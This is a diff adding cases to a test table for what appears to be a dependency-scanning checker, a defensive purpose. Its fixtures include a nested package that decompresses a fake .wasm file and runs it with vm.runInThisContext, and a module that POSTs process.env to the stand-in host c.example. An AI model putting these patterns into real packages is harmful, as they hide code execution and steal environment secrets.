@@ -118,6 +118,47 @@ test.each<readonly [string, Readonly<Record<string, unknown>>, Readonly<Record<s
     { ...LOCAL, 'index.js': "require('@acme/log')" },
     'block',
   ],
+  [
+    'what one of them unpacks and runs of a file of another',
+    CARRIES,
+    {
+      'index.js': "module.exports=require('fmt')",
+      'node_modules/fmt/package.json': FMT,
+      'node_modules/fmt/lib/i.js':
+        "const { unpack } = require('low'); const fs = require('fs'); exports.tables = unpack(fs.readFileSync(__dirname + '/t.wasm'))",
+      'node_modules/fmt/lib/t.wasm': '\u0000asm',
+      'node_modules/fmt/node_modules/low/package.json': '{"name":"low","version":"1.0.0"}',
+      'node_modules/fmt/node_modules/low/index.js':
+        "const vm = require('vm'); const { inflateRawSync } = require('zlib');\nexports.unpack = (all) => { const out = {}; for (const part of [all.subarray(8)]) out.t = vm.runInThisContext('(' + inflateRawSync(part).toString('utf8') + ')')(out, require); return out; }",
+    },
+    'block',
+  ],
+  [
+    'what one of them unpacks, and reads as data',
+    CARRIES,
+    {
+      'index.js': "module.exports=require('fmt')",
+      'node_modules/fmt/package.json': FMT,
+      'node_modules/fmt/lib/i.js':
+        "const { unpack } = require('low'); const fs = require('fs'); exports.tables = unpack(fs.readFileSync(__dirname + '/t.wasm'))",
+      'node_modules/fmt/lib/t.wasm': '\u0000asm',
+      'node_modules/fmt/node_modules/low/package.json': '{"name":"low","version":"1.0.0"}',
+      'node_modules/fmt/node_modules/low/index.js':
+        "const { inflateRawSync } = require('zlib');\nexports.unpack = (all) => JSON.parse(inflateRawSync(all.subarray(8)).toString('utf8'))",
+    },
+    'pass',
+  ],
+  [
+    'what one of them sends of what it is given',
+    CARRIES,
+    {
+      'index.js': "const log = require('fmt'); log.write(process.env)",
+      'node_modules/fmt/package.json': FMT,
+      'node_modules/fmt/lib/i.js':
+        "const https = require('https'); exports.write = (all) => https.request({ host: 'c.example', method: 'POST' }).end(JSON.stringify(all))",
+    },
+    'block',
+  ],
   ['a folder that only has the name', {}, { ...LOCAL, 'index.js': "require('@acme/log')" }, 'pass'],
 ])('%s', (_, manifest, files, level) => {
   const main = Object.keys(files).find((path) => path.startsWith('index'));
